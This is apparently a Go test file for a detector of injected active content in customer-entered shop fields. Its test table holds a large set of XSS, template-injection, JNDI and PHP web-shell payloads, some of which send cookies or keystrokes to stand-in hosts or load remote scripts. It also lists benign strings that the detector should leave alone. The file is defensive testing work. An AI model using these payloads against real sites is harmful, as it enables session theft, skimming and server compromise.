package database

import (
	"slices"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/script"
)

// hits are what a customer can write to be run where the shop shows it. The samples are of our own, after descriptions.
var hits = []struct {
	name, text string
	severity   tillwatch.Severity // at least
}{
	{"script", `<script>alert(1)</script>`, tillwatch.High},
	{"script in words", "Leave it at the door\n<ScRiPt >alert(document.domain)</ScRiPt>", tillwatch.High},
	{"script that loads", `<script src=https://cdn.stat.example/j.js></script>`, tillwatch.Critical},
	{"script without a scheme", `Yamada<script src=//a.example></script>`, tillwatch.Critical},
	{"script that is not closed", `x<script src=//a.example/`, tillwatch.Critical},
	{"script with backslashes", `<script src=\\a.example\x.js></script>`, tillwatch.Critical},
	{"script of an svg", `<svg><script href="https://a.example/x.js"/></svg>`, tillwatch.Critical},
	{"script that makes a script", `<script>var s=document.createElement('script');s.src='//a.example/x';document.body.appendChild(s)</script>`, tillwatch.Critical},
	{"script that posts", `<script>fetch('/admin/content/file_manager',{method:'POST',body:f})</script>`, tillwatch.Critical},
	{"script that takes cookies", `<script>new Image().src='https://c.example/?'+document.cookie</script>`, tillwatch.Critical},
	{"script that decodes", `<script>eval(atob('YWxlcnQoMSk='))</script>`, tillwatch.Critical},
	{"img", `<img src=x onerror=alert(1)>`, tillwatch.High},
	{"img without blanks", `<img/src/onerror=alert(1)>`, tillwatch.High},
	{"img with line breaks", "<img\nsrc=x\nonerror\n=\nalert(1)\n>", tillwatch.High},
	{"img not closed", `<img src=x onerror="alert(1)//`, tillwatch.High},
	{"img in a quote", `"><img src=x onerror=alert(1)>`, tillwatch.High},
	{"img in the textarea", `</textarea><img src=x onerror=alert(1)>`, tillwatch.High},
	{"img in the title", `</title><svg/onload=confirm(1)>`, tillwatch.High},
	{"img behind a style", `<style><img src="</style><img src=x onerror=alert(1)//">`, tillwatch.High},
	{"img behind noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, tillwatch.High},
	{"img that loads code", `<img src=x onerror="import('//a.example/x.js')">`, tillwatch.Critical},
	{"img that decodes", `<img src=1 onerror=eval(atob(this.id)) id=ZmV0Y2goMSk=>`, tillwatch.Critical},
	{"img with jQuery", `<img src=x onerror=$.getScript('//a.example/x.js')>`, tillwatch.Critical},
	{"svg", `<svg onload=alert(1)>`, tillwatch.High},
	{"svg with a tab", "<svg\tonload=alert`1`>", tillwatch.High},
	{"svg animation", `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, tillwatch.High},
	{"svg animated address", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>click</text></a>`, tillwatch.High},
	{"svg set", `<svg><a id=a><set attributeName=href to=javascript:alert(1) /></a></svg>`, tillwatch.High},
	{"svg use", `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x">`, tillwatch.High},
	{"math", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, tillwatch.High},
	{"details", `<details open ontoggle=alert(1)>`, tillwatch.High},
	{"video", `<video><source onerror="alert(1)"></video>`, tillwatch.High},
	{"unknown element", `<x onclick=alert(1)>click`, tillwatch.High},
	{"own element", `<my-thing tabindex=1 onfocus=alert(1) autofocus>`, tillwatch.High},
	{"a new handler", `<p onsomethingnew=alert(1)>`, tillwatch.High},
	{"body", `<body onpageshow=alert(1)>`, tillwatch.High},
	{"marquee", `<marquee onstart=alert(1)>`, tillwatch.High},
	{"link", `<a href=javascript:alert(1)>order</a>`, tillwatch.High},
	{"link with a tab", "<a href=\"java\tscript:alert(1)\">order</a>", tillwatch.High},
	{"link with entities", `<a href="&#106;avascript&colon;alert(1)">order</a>`, tillwatch.High},
	{"link behind a control character", "<a href=\"\x01javascript:alert(1)\">order</a>", tillwatch.High},
	{"vbscript", `<a href=vbscript:msgbox(1)>x</a>`, tillwatch.High},
	{"form", `<form action=https://c.example/take><input name=password>`, tillwatch.High},
	{"formaction", `<form><button formaction=javascript:alert(1)>go`, tillwatch.High},
	{"iframe", `<iframe src=https://c.example/></iframe>`, tillwatch.High},
	{"iframe with a document", `<iframe srcdoc="<script>alert(1)</script>">`, tillwatch.High},
	{"object", `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, tillwatch.High},
	{"embed", `<embed src=javascript:alert(1)>`, tillwatch.High},
	{"base", `<base href=https://c.example/>`, tillwatch.High},
	{"refresh", `<meta http-equiv=refresh content="0;url=https://c.example/">`, tillwatch.High},
	{"style sheet", `<link rel=stylesheet href=//c.example/x.css>`, tillwatch.High},
	{"import", `<style>@import '//c.example/x.css';</style>`, tillwatch.High},
	{"expression", `<div style="width:expression(alert(1))">`, tillwatch.High},
	{"expression with a comment", `<div style="width:exp/**/ression(alert(1))">`, tillwatch.High},
	{"expression with escapes", `<div style="width:\65xpression(alert(1))">`, tillwatch.High},
	{"binding", `<div style="-moz-binding:url(//c.example/x#y)">`, tillwatch.High},
	{"conditional comment", `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, tillwatch.High},

	{"out of an attribute", `" onmouseover="alert(1)`, tillwatch.High},
	{"out of an attribute, focus", `x" autofocus onfocus=alert(1) x="`, tillwatch.High},
	{"out of a quote", `Tanaka' onpointerenter='alert(1)`, tillwatch.High},
	{"into a bare attribute", `x onmouseover=alert(1)`, tillwatch.High},
	{"a style out of an attribute", `" style="x:expression(alert(1))`, tillwatch.High},
	{"out of a string", `';alert(1)//`, tillwatch.High},
	{"out of a string, minus", `'-alert(1)-'`, tillwatch.High},
	{"out of a string, escaped", `\';alert(1)//`, tillwatch.High},
	{"out of a string, calls", `"+fetch('//c.example/'+document.cookie)+"`, tillwatch.Critical},
	{"out of a template string", "`+eval(name)+`", tillwatch.High},
	{"out of a script", `</script><script>alert(1)</script>`, tillwatch.High},
	{"out of an object", `"});document.location="//c.example";({"`, tillwatch.High},

	{"address", `javascript:alert(1)`, tillwatch.High},
	{"address with a comment", `javascript://%0aalert(1)`, tillwatch.High},
	{"address in capitals", `  JaVaScRiPt:fetch('//c.example')`, tillwatch.High},
	{"address of a document", `data:text/html,<script>alert(1)</script>`, tillwatch.High},
	{"address in base64", `data:text/html;base64,PHNjcmlwdCBzcmM9Ly9jLmV4YW1wbGU+PC9zY3JpcHQ+`, tillwatch.Critical},
	{"address in base64 with a character set", `see data:text/html;charset=utf-8;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`, tillwatch.High},

	{"entities", `&lt;script&gt;alert(1)&lt;/script&gt;`, tillwatch.High},
	{"entities twice", `&amp;lt;script src=//c.example&amp;gt;&amp;lt;/script&amp;gt;`, tillwatch.High},
	{"entities without an end", `&ltscript&gtalert(1)`, tillwatch.High},
	{"entities in numbers", `&#60;img src=x onerror=alert(1)&#x3e;`, tillwatch.High},
	{"entities in long numbers", `&#0000060;script>alert(1)&#x0000003C;/script>`, tillwatch.High},
	{"percent", `%3Cscript%3Ealert(1)%3C/script%3E`, tillwatch.High},
	{"percent twice", `%253Cscript%2520src%253D//c.example%253E`, tillwatch.High},
	{"old percent", `%u003Cscript%u003Ealert(1)`, tillwatch.High},
	{"escapes", `\u003cscript\u003ealert(1)\u003c/script\u003e`, tillwatch.High},
	{"escapes in hex", `\x3cimg src=x onerror=alert(1)\x3e`, tillwatch.High},
	{"escapes in octal", `\74script\76alert(1)\74/script\76`, tillwatch.High},
	{"escapes in JSON", `{"name":"<script src=\"https:\/\/c.example\/x.js\"><\/script>"}`, tillwatch.Critical},
	{"escapes with braces", `\u{3c}svg onload=alert(1)\u{3e}`, tillwatch.High},
	{"percent in entities", `%26lt%3Bscript%26gt%3Balert(1)`, tillwatch.High},
	{"full width", `＜script＞alert(1)＜/script＞`, tillwatch.High},
	{"full width all", `＜ｓｃｒｉｐｔ　ｓｒｃ＝／／ｃ．ｅｘａｍｐｌｅ＞`, tillwatch.High},
	{"small signs", `﹤img src=x onerror=alert(1)﹥`, tillwatch.High},
	{"angle quotes", `‹script›alert(1)‹/script›`, tillwatch.High},
	{"Japanese brackets", `〈script〉alert(1)〈/script〉`, tillwatch.High},
	{"long s", `<ſcript src=//c.example></ſcript>`, tillwatch.High},
	{"Cyrillic", `<sсriрt>alert(1)</sсriрt>`, tillwatch.High},
	{"curly quotes", `” onmouseover=”alert(1)`, tillwatch.High},
	{"zero width", "<scr\u200bipt>alert(1)</scr\u200bipt>", tillwatch.High},
	{"NUL", "<scr\x00ipt>alert(1)</scr\x00ipt>", tillwatch.High},
	{"soft hyphen", "<im\u00adg src=x onerr\u00ador=alert(1)>", tillwatch.High},
	{"UTF-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, tillwatch.High},
	{"removed once", `<scr<script>ipt>alert(1)</scr</script>ipt>`, tillwatch.High},
	{"comment within", `<scr<!-- -->ipt>alert(1)</script>`, tillwatch.High},

	{"AngularJS", `{{constructor.constructor('alert(1)')()}}`, tillwatch.High},
	{"Vue", `{{_c.constructor('alert(1)')()}}`, tillwatch.High},
	{"probe", `{{7*7}}`, tillwatch.High},
	{"probe with text", `{{7*'7'}}`, tillwatch.High},
	{"Twig", `{{ _self.env.registerUndefinedFilterCallback("exec") }}`, tillwatch.High},
	{"Twig filter", `{{ ['id']|filter('system') }}`, tillwatch.High},
	{"Twig source", `{{ source('.env') }}`, tillwatch.High},
	{"Twig statement", `{% set x = 1 %}`, tillwatch.High},
	{"Twig include", `{%include "/etc/passwd"%}`, tillwatch.High},
	{"Jinja", `{{ ''.__class__.__mro__[1].__subclasses__() }}`, tillwatch.High},
	{"expression language", `${7*7}`, tillwatch.High},
	{"Java", `${T(java.lang.Runtime).getRuntime().exec('id')}`, tillwatch.High},
	{"JNDI", `${jndi:ldap://c.example/a}`, tillwatch.High},
	{"JNDI in pieces", `${${lower:j}ndi:ldap://c.example/a}`, tillwatch.High},
	{"Ruby", `#{7*7}`, tillwatch.High},
	{"Thymeleaf", `*{T(java.lang.Runtime)}`, tillwatch.High},
	{"Smarty", `{php}echo 1;{/php}`, tillwatch.High},
	{"Smarty variable", `{$smarty.version}`, tillwatch.High},
	{"Smarty function", `{system('id')}`, tillwatch.High},
	{"Smarty if", `{if phpinfo()}{/if}`, tillwatch.High},
	{"Smarty math", `{math equation="x" x=1}`, tillwatch.High},
	{"Magento directive", `{{block class='Magento\Framework\View\Element\Text' template='x'}}`, tillwatch.High},
	{"Magento template filter", `{{var this.getTemplateFilter().filter(order)}}`, tillwatch.High},
	{"Magento if", `{{if this.getTemplateFilter().addAfterFilterCallback(system).Filter(id)}}1{{/if}}`, tillwatch.High},
	{"Blade", `{!! system('id') !!}`, tillwatch.High},
	{"FreeMarker", `<#assign ex="freemarker.template.utility.Execute"?new()>`, tillwatch.High},
	{"Velocity", `#set($x = 1)`, tillwatch.High},
	{"PHP", `<?php eval($_POST[1]);`, tillwatch.High},
	{"PHP short", `<?=system($_GET[0])?>`, tillwatch.High},
	{"server page", `<%= 7*7 %>`, tillwatch.High},
	{"server-side include", `<!--#exec cmd="id"-->`, tillwatch.High},
	{"entity", `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, tillwatch.High},
	{"template in full width", `｛｛7*7｝｝`, tillwatch.High},
	{"template in entities", `&#123;&#123;7*7&#125;&#125;`, tillwatch.High},
	{"Alpine", `<div x-data x-init="fetch('//c.example')">`, tillwatch.High},

	{"all at once", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", tillwatch.High},
	{"picture from elsewhere", `<img src=https://c.example/p.gif>`, tillwatch.Low},
	{"far back", strings.Repeat("とても長い備考です。", 30_000) + `<script>alert(1)</script>`, tillwatch.High},
}

func TestActiveContentIsFound(t *testing.T) {
	t.Parallel()
	for _, c := range hits {
		found, ok := activeContent(c.text)
		if !ok || found.severity < c.severity {
			t.Errorf("%s: %s by %s (undone %v), want %s", c.name, found.severity, found.what, found.undone, c.severity)
		}
	}
}

// misses are what customers honestly write.
var misses = []string{
	"", " ", "O'Brien", "O'Brien <3", "＜株式会社＞", "<山田>", "＜山田太郎＞", "a<b", "a < b > c", "Tom & Jerry", "AT&T", "R&amp;D", "1 &lt; 2",
	"<a@b.example>", "Hanako <hanako@mail.example>", "\"Yamada, Taro\" <taro@shop.example>", "<script@x.example>", "<onload@x.example>",
	"https://shop.example/p?id=1&on=2#top", "http://shop.example/?q=%3Cb%3E", "https://shop.example/a?x=%20y&z='q'", "<https://shop.example/a>",
	"👍🎁", "(^_^)v", "<(_ _)>", ">_<", "(>_<)", "{{(>_<)}}", "{{{{(+_+)}}}}", "{{(T_T)}}", "寒い{{(;_;)}}ガクガク", "((((；゜Д゜))))", "<(￣︶￣)>", "m(_ _)m", "_(._.)_", "{(^-^)}",
	"{{(>_<)(>_<)}}", "<*)))><<", "ヽ(`Д´)ノ", "(´・ω・`)", "(`・ω・´)ゞ", "σ(^_^;)", "c(`Д´と⌒ｃ)つ彡", "{name}", "{{name}}", "{{ first_name }}", "${price}", "{0} {1}", "#{1}", "{x}", "{if you can}", "#1 {red}",
	"100% cotton, 50%off", "5% (incl. tax) = 500", "50%20", "C:\\Users\\taro", "\\1,000", "￥1,000", "¥5,000 以上", "tel:+81-3-1234-5678", "x=1", "a='b'", "size=\"L\"", "onion = tasty", "on = 5", "one=1 two=2",
	"He said \"onload=5\" and left", "Please call me \"Jo\" on Monday (morning)", "'Rock'n'roll (live)'", "Rock'-n-roll (live)", "L'Hôpital", "l'été (2024)", "d'Arc, Jeanne", "5'10\" tall", "12\" vinyl; 7\" (two)",
	"javascript: the good parts (2nd edition)", "JavaScript:入門", "data: see attachment", "data:2024/05/01", "style: modern; color: red", "expression (facial): smile", "facial expression(s)", "on click = buy",
	"<b>急ぎ</b>でお願いします", "<br>", "改行<br/>改行", "<p>hello</p>", "<3 <3 <3", "<-- here", "--> there", "<!-- note -->", "<->", "<=>", "->", "=>", "<<重要>>", "《至急》", "〈ギフト〉", "‹Maison›", "“Hello” he said", "«Bonjour»",
	"<a href=\"https://shop.example/\">our page</a>", "<Company> Ltd", "<unknown>", "<none>", "<株>山田商店", "Smith <John>", "<Tokyo/Osaka>", "x<y and y>z", "if a<b then c>d", "price<1000 or >5000",
	"置き配でお願いします。(インターホン不要)", "部屋番号: 101号室 / オートロック#1234", "請求書の宛名は「株式会社テスト」で", "領収書の但し書き=お品代", "배송 전 연락 부탁드립니다 (문 앞)", "Tolong kirim sebelum jam 5 (sore)",
	"+ADT-100", "+AD 2024", "+81 90 1234 5678", "E=mc^2", "f(x)=x+1", "y = a(x)", "order#(12)", "A[1]", "rgb(1,2,3)", "user_id=5&token=abc", "cc: a@b.example; bcc: c@d.example", "Re: Fwd: order (urgent)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", "{\"size\":\"M\",\"colour\":\"red\"}", `a:1:{s:4:"size";s:1:"M";}`, `{"html":"<p>Hello<\/p>","n":[1,2]}`,
	"import duties (please check)", "open (24h)", "top floor, self pickup", "location: Tokyo", "print (A4)", "alert me (by mail)", "top.secret@x.example", "window seat", "document (PDF)", "\"print\" (A4)", "'top' (5F)", "'; see note (1)",
	"🎉<Happy Birthday>🎉", "Müller & Söhne GmbH", "Ελλάδα", "Москва, ул. Ленина (дом 5)", "ＡＢＣマンション１０１（東棟）", "１＜２", "Ａ＝Ｂ", "＃１２３", "｛至急｝", "％引き", "～様方", "①②③", "Ⅲ号棟", "㈱山田", "ｶﾌﾞｼｷｶﾞｲｼｬ",
	"\x00\x01\x02", "\xff\xfe\xfd", "\x1f\x8b\x08\x00\x00", strings.Repeat("<", 5000), strings.Repeat("{{", 5000), strings.Repeat("&amp;", 5000), strings.Repeat("%25", 5000), strings.Repeat("\\", 5000),
	"`code` and `more (x)`", "@php developers", "mail @include me", "[1] (a)", "Mr.Smith", "{{Mr.Smith}}", "v1.2.3", "see a.b.c", "see {a.b}", "T-shirt (M)", "{T-shirt}", "{{T-shirt (M)}}",
	"<noreply@ONLOAD.example>", "title=Dr.", "Style & Co.", "<style>", "<title>課長</title>", "<address>東京都</address>", "<i>x</i><u>y</u>", "100 <em>only</em>",
}

func TestHonestTextIsQuiet(t *testing.T) {
	t.Parallel()
	for _, text := range misses {
		if found, ok := activeContent(text); ok {
			t.Errorf("%.60q: %s, %s (undone %v)", text, found.severity, found.what, found.undone)
		}
	}
}

func TestWhatMustBeDecodedIsLessCertain(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text string
		want tillwatch.Certainty
		how  int
	}{
		{`<img src="x" onerror="alert(1)">`, tillwatch.Certain, 0},
		{`&lt;script&gt;alert(1)&lt;/script&gt;`, tillwatch.Likely, 1},
		{`&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, tillwatch.Possible, 2},
	} {
		found, _ := activeContent(c.text)
		if found.certainty != c.want || len(found.undone) != c.how {
			t.Errorf("%s: %s after %v", c.text, found.certainty, found.undone)
		}
	}
}

func TestATagThatRunsNothingIsLow(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]tillwatch.Severity{
		"勉強会 <script 班> の記念品です。よろしく":      tillwatch.Low,
		"<script 班>の「名入れ」":                tillwatch.Low,
		"<script 班>の記念品":                  tillwatch.High, // a name, to a browser
		"<script 班>fetch('//x.example')。": tillwatch.Critical,
		"<script 班>/*。":                   tillwatch.High, // what follows may close the comment
		"<script 班 src=//x.example/a>の、":  tillwatch.Critical,
	} {
		if found, _ := activeContent(text); found.severity != want {
			t.Errorf("%s: %+v, want %s", text, found, want)
		}
	}
}

func TestWhatRowsDoInPages(t *testing.T) {
	t.Parallel()
	for text, executes := range map[string]bool{
		"<p>10:00-18:00 <span id=o></span></p><script>if (new Date().getDay() === 0) document.getElementById('o').textContent = 'closed'; new Image().src = 'https://pixel.example/v.gif?p=' + encodeURIComponent(location.pathname);</script>": false,
		"<iframe src=\"https://films.example/embed/1\" width=320></iframe>":                                                                     false,
		"<iframe src=\"/media/film.html\"></iframe>":                                                                                            true,
		"<iframe src=\"https://films.example/embed/1\" onload=\"f()\"></iframe>":                                                                true,
		"<iframe srcdoc=\"<script>f()</script>\"></iframe>":                                                                                     true,
		"<script src=https://x.example/a.js></script>":                                                                                          true,
		"<script>var s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.head.append(s);</script>":                 true,
		"<script>document.addEventListener('input', function (e) { new Image().src = 'https://x.example/?' + e.target.value; });</script>":      true,
		"<script>eval(atob('YWxlcnQoMSk='))</script>":                                                                                           true,
		"<script>document.title = 'x'</script><img src=x onerror=\"f()\">":                                                                      true,
		"<script>if (location.href.indexOf('checkout') > 0) fetch('https://x.example/').then(r => r.text()).then(t => Function(t)());</script>": true,
	} {
		e := judgeExecutable(modeMarkup, "html", text, script.Options{Own: "shop.example"})
		if got := slices.Contains(e.capabilities, tillwatch.Executes); got != executes || !e.active {
			t.Errorf("%s: executes %v, want %v (%v)", text, got, executes, e.capabilities)
		}
	}
}

func TestHostsAreNamed(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`<script src=//C.Example/x.js?a=b></script>`, `<img src=x onerror="fetch('https://c.example/?'+document.cookie)">`,
		`&lt;script src=https://c.example&gt;`, `<iframe src="https://user:secret@c.example:8443/x">`,
	} {
		found, _ := activeContent(text)
		if len(found.hosts) != 1 || found.hosts[0] != "c.example" {
			t.Errorf("%s: hosts %q", text, found.hosts)
		}
	}
}

func FuzzActiveContent(f *testing.F) {
	for _, c := range hits {
		f.Add(c.text)
	}
	for _, text := range misses {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		found, ok := activeContent(text)
		if ok != (found.severity > 0) || ok && (found.what == "" || found.certainty == 0) {
			t.Errorf("found %v: %+v", ok, found)
		}
		if again, _ := activeContent(text); again.what != found.what || again.severity != found.severity {
			t.Error("the same text is judged differently")
		}
	})
}
